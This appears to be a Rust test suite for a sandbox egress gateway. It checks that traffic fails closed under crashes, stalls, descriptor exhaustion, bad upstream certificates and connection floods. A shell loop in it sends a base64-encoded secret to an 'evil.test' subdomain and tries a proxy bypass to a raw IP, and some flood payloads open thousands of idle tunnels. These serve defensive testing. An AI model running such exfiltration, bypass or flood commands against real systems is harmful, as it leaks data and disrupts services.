//! When something on the way out fails: it is killed, it hangs, it has used up what it needs, or the host outside is not what it says.

use std::time::{Duration, Instant};

use rustix::process::{Pid, Signal, kill_process};
use tests::internet::{Arrival, Certificate, House, Internet, Reply};

use crate::{
    ground::{Ground, PROXY, attempt, curl, is_lookup, on_the_internet, probing, texts, until},
    table::Tally,
};

const POLICY: &str = "
version: 1
egress:
  implement:
    allow:
      - ok.test
      - expired.test
      - wrong.test
      - self-signed.test
      - gone.test
      - hangup.test
      - babble.test
      - opaque.test
      - { host: dead.test, ports: [8444] }
      - { host: no-tls.test, ports: [9999] }
";

fn wishes() -> Vec<&'static str> {
    let hosts = [
        "ok.test",
        "expired.test",
        "wrong.test",
        "self-signed.test",
        "gone.test",
        "hangup.test",
        "babble.test",
        "{ host: dead.test, ports: [8444] }",
        "{ host: no-tls.test, ports: [9999] }",
    ];
    let allow = hosts.into_iter().flat_map(|host| ["--allow", host]);
    ["--tier", "verified"].into_iter().chain(allow).collect()
}

/// Faults that cannot be made here without making them for everybody.
const NOT_HERE: [(u16, &str, &str); 5] = [
    (81, "the power goes", "nothing here takes it away; what is kept is shown by the crash suite"),
    (
        82,
        "the server's disk is full",
        "it is everybody's disk; `trail` in `server` shows what follows",
    ),
    (82, "memory and processes of the host run out", "they are everybody's"),
    (82, "the clock jumps", "no namespace has a clock of its own that certificates are judged by"),
    (82, "the kernel's table of connections is full", "no packet of a sandbox passes it"),
];

/// Asks for what may be reached and for what may not, again and again, and never ends.
const LOOP: &str = "while :; do \
    curl -s -m 2 -o /dev/null https://ok.test/loop; \
    curl -s -m 2 -o /dev/null https://c2VjcmV0.evil.test/loop; \
    curl -s -m 2 -o /dev/null --noproxy '*' http://93.184.216.34/loop; done";

fn good(arrivals: &[Arrival]) -> usize {
    let asked = arrivals.iter().filter_map(Arrival::request);
    asked.filter(|request| request.host() == "ok.test").count()
}

/// Nothing arrives but from hosts that may be reached, whatever failed.
fn bad(arrivals: &[Arrival]) -> Vec<String> {
    let is_bad = |arrival: &&Arrival| {
        arrival.query().is_some_and(|name| name.contains("evil"))
            || arrival.request().is_some_and(|request| request.host() != "ok.test")
    };
    arrivals.iter().filter(is_bad).map(ToString::to_string).collect()
}

fn signal(pid: u32, signal: Signal) {
    let pid = Pid::from_raw(i32::try_from(pid).unwrap()).unwrap();
    kill_process(pid, signal).unwrap();
}

/// Lets the loop run for a while.
fn a_while(internet: &Internet) {
    let begun = Instant::now();
    while begun.elapsed() < Duration::from_millis(1200) {
        internet.mark();
        tests::internet::breathe();
    }
}

fn resumes(internet: &Internet, mark: usize) -> bool {
    until(|| (good(&internet.since(mark)) > 1).then_some(())).is_some()
}

/// The gateway is killed. Without it there is no way out; with the next one there is the same way.
fn without_the_gateway(ground: &mut Ground<'_>) {
    let (internet, house) = (ground.internet, ground.house);
    let first = house.gateway().unwrap();
    // A server that is stopped cannot start another.
    signal(house.pid(), Signal::STOP);
    signal(first, Signal::KILL);
    let mark = internet.mark();
    a_while(internet);
    let seen = internet.since(mark);
    signal(house.pid(), Signal::CONT);
    ground.check(81, "without a gateway nothing leaves", &format!("{seen:?}"), seen.is_empty());
    let mark = internet.mark();
    let again = resumes(internet, mark);
    let next = house.gateway();
    ground.check(
        81,
        "the next gateway serves",
        &format!("{first}, {next:?}"),
        again && next != Some(first),
    );
    let bad = bad(&internet.since(mark));
    ground.check(81, "and refuses what the first refused", &bad.join(" "), bad.is_empty());
}

/// Whoever decides does not answer: nothing is let through meanwhile.
fn without_an_answer(ground: &mut Ground<'_>) {
    let (internet, house) = (ground.internet, ground.house);
    signal(house.pid(), Signal::STOP);
    // What was allowed before may still be on its way.
    a_while(internet);
    let mark = internet.mark();
    a_while(internet);
    let seen = internet.since(mark);
    signal(house.pid(), Signal::CONT);
    ground.check(81, "while nobody decides nothing leaves", &format!("{seen:?}"), seen.is_empty());
    let mark = internet.mark();
    let again = resumes(internet, mark);
    ground.check(81, "and afterwards it goes on", "", again);
}

/// A gateway that gets no descriptors any more takes nothing new, and lives.
fn without_descriptors(ground: &mut Ground<'_>) {
    let (internet, house) = (ground.internet, ground.house);
    let gateway = house.gateway().unwrap();
    // Its user may lower its limits, and raise them again.
    let nobody = ["--reuid", "65534", "--regid", "65534", "--clear-groups", "prlimit", "--pid"];
    let limit = |most: &str| {
        let mut command = internet.in_house("setpriv");
        command.args(nobody).arg(gateway.to_string()).arg(format!("--nofile={most}:"));
        command.output().unwrap()
    };
    let limits = std::fs::read_to_string(format!("/proc/{gateway}/limits")).unwrap();
    let line = limits.lines().find(|line| line.starts_with("Max open files")).unwrap();
    let most = line.split_whitespace().nth(3).unwrap();
    let taken = limit("3");
    let is_taken = taken.status.success();
    ground.check(82, "control: descriptors are taken away", &format!("{taken:?}"), is_taken);
    // What had one before may still be on its way.
    a_while(internet);
    let mark = internet.mark();
    a_while(internet);
    let seen = internet.since(mark);
    let alive = house.gateway() == Some(gateway);
    ground.check(82, "without descriptors the gateway lives on", "", alive);
    ground.check(82, "and nothing leaves", &format!("{seen:?}"), seen.is_empty());
    let back = limit(most);
    let is_back = back.status.success();
    ground.check(82, "control: they are given back", &format!("{back:?}"), is_back);
    let mark = internet.mark();
    let again = resumes(internet, mark);
    ground.check(82, "and then it goes on", "", again);
}

/// Hosts that are dead, or not who they say.
fn hosts(ground: &mut Ground<'_>) {
    let ok = curl(&["https://ok.test/"]);
    for (name, url, said) in [
        ("an expired certificate", "https://expired.test/", "expired"),
        ("a certificate of another", "https://wrong.test/", "not valid for name"),
        ("a certificate of its own", "https://self-signed.test/", "UnknownIssuer"),
        ("no address", "https://gone.test/", "502"),
        ("nobody listens", "https://dead.test:8444/", "refused"),
        ("no TLS", "https://no-tls.test:9999/", "502"),
        ("a host that hangs up", "https://hangup.test/", "502"),
        ("a host that babbles", "https://babble.test/", "502"),
    ] {
        for option in ["-i", "-k"] {
            let line = curl(&[option, url]);
            let one = attempt(84, &format!("{name}, {option}"), &line, &ok).says(&[said]);
            let one = one.refused("upstream");
            ground.deny(&match name {
                // These two are asked, because they prove who they are.
                "a host that hangs up" | "a host that babbles" => one.though(|_| true),
                // No request goes to the others.
                _ => one.though(|arrival| {
                    is_lookup(arrival)
                        || matches!(
                            arrival,
                            Arrival::Packet { .. } | Arrival::Hello { .. } | Arrival::Bytes { .. }
                        )
                }),
            });
        }
    }
}

/// The server is killed, and another is started. Nothing leaves in between.
fn without_the_server(internet: &Internet, house: &mut House<'_>, tally: &mut Tally) {
    let gateway = house.gateway().unwrap();
    house.kill();
    let gone =
        until(|| (!std::path::Path::new(&format!("/proc/{gateway}/exe")).exists()).then_some(()));
    tally.check("81: the gateway ends with the server", "", gone.is_some().into());
    let mark = internet.mark();
    a_while(internet);
    let seen = internet.since(mark);
    tally.check(
        "81: without a server nothing leaves",
        &format!("{seen:?}"),
        seen.is_empty().into(),
    );
    house.restart();
    let listed = house.lamp(&["sandbox", "list"]);
    tally.check(
        "81: the sandbox is found again",
        &listed.out,
        listed.out.contains("verified").into(),
    );
    let asked = house.run("verified", &curl(&["https://ok.test/"]));
    let works = asked.out.ends_with("arrived");
    tally.check(
        "81: and reaches what it may",
        &asked.to_string().replace('\n', " / "),
        works.into(),
    );
    let asked = house.run("verified", &curl(&["https://evil.test/"]));
    tally.check(
        "81: and nothing else",
        &asked.to_string().replace('\n', " / "),
        asked.all().contains("403").into(),
    );
    let bad = bad(&internet.since(mark));
    tally.check("81: nothing arrived that may not", &bad.join(" "), bad.is_empty().into());
}

#[test]
fn what_fails_on_the_way_out_fails_closed() {
    on_the_internet("outages", |internet| {
        internet.certificate("expired.test", Certificate::Expired);
        internet.certificate("wrong.test", Certificate::OtherName);
        internet.certificate("self-signed.test", Certificate::SelfSigned);
        internet.name("gone.test", |_| Vec::new());
        internet.site("hangup.test", |_| Reply::Hangup);
        internet.site("babble.test", |_| {
            Reply::Bytes(
                b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab".to_vec(),
            )
        });
        let mut house = House::start(internet, POLICY);
        let mut tally = {
            let mut ground = Ground::new(internet, &house, "verified", &wishes());
            hosts(&mut ground);
            let running = house.spawn("verified", &["sh", "-c", LOOP]);
            let mark = internet.mark();
            let control = resumes(internet, mark);
            ground.check(81, "control: a loop inside reaches its host", "", control);
            without_the_gateway(&mut ground);
            without_an_answer(&mut ground);
            without_descriptors(&mut ground);
            running.forget();
            for (case, what, why) in NOT_HERE {
                ground.unsupported(case, what, why);
            }
            ground.counted()
        };
        without_the_server(internet, &mut house, &mut tally);
        tally.finish("outages", 33);
    });
}

/// Connections that say nothing of use, how many, and for how many seconds.
const FLOODS: [(&str, &str, &str, &str); 3] = [
    ("heads", "600", "18", "CONNECT ok.test"),
    (
        "handshakes",
        "600",
        "18",
        "CONNECT ok.test:443 HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n\\x16\\x03\\x01\\x00\\xc8\\x01",
    ),
    ("tunnels", "10000", "8", "CONNECT ok.test:443 HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n"),
];

/// Many connections that are begun and never used, from three sandboxes at once.
#[test]
fn a_sandbox_that_floods_its_doors_shuts_out_itself_alone() {
    on_the_internet("floods", |internet| {
        let house = House::start(internet, POLICY);
        let mut ground = Ground::new(internet, &house, "neighbour", &wishes());
        let gateway = house.gateway().unwrap();
        let ask = |name: &str, most: &str| {
            let begun = Instant::now();
            let said = house.run(name, &["curl", "-sS", "-m", most, "https://ok.test/"]);
            (said, begun.elapsed())
        };
        let (said, alone) = ask("neighbour", "9");
        let told = format!("{said} in {alone:?}");
        ground.check(12, "control: a neighbour reaches its host", &told, said.succeeded());
        for (name, ..) in FLOODS {
            Ground::new(internet, &house, name, &wishes());
        }
        let mut floods = FLOODS.map(|(name, count, seconds, text)| {
            let line = probing(&["flood", PROXY, count, seconds, text]);
            house.spawn(name, &texts(&line))
        });
        // A sandbox has used up its own when one more of it has to wait.
        for (name, ..) in FLOODS {
            let full = until(|| (!ask(name, "1").0.succeeded()).then_some(()));
            ground.check(12, &format!("{name}: it has used up its own"), "", full.is_some());
        }
        let slowest = (0..5).map(|_| ask("neighbour", "9")).max_by_key(|it| it.1).unwrap();
        let fine = slowest.0.succeeded() && slowest.1 < alone + Duration::from_secs(1);
        let told = format!("{} in {:?}, {alone:?} before", slowest.0, slowest.1);
        ground.check(12, "the neighbour does not notice", &told, fine);
        // Those who hold their connections lose them when their time is up; the others end by themselves.
        for ((name, count, ..), running) in FLOODS.into_iter().zip(&mut floods) {
            let again = until(|| ask(name, "2").0.succeeded().then_some(()));
            let held = running.is_running();
            let right = again.is_some() && (held || count == "10000");
            let told = format!("still held: {held}");
            ground.check(12, &format!("{name}: after a while there is room"), &told, right);
        }
        for ((name, ..), running) in FLOODS.into_iter().zip(floods) {
            let ended = running.said();
            let told = ended.out.contains("value ");
            ground.check(12, &format!("{name}: so many were opened"), &ended.to_string(), told);
        }
        let status = std::fs::read_to_string(format!("/proc/{gateway}/status")).unwrap();
        let resident = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
        let kib: u64 = resident.split_whitespace().next().unwrap().parse().unwrap();
        ground.check(12, "the gateway stays small", resident.trim(), kib < 256 << 10);
        let is_told = |arrival: &Arrival| {
            let asked = arrival.request().is_none_or(|request| request.host() == "ok.test");
            is_lookup(arrival) || asked
        };
        let others: Vec<_> = internet.seen().into_iter().filter(|it| !is_told(it)).collect();
        ground.check(12, "nothing else arrived", &format!("{others:?}"), others.is_empty());
        ground.counted().finish("floods", 13);
    });
}
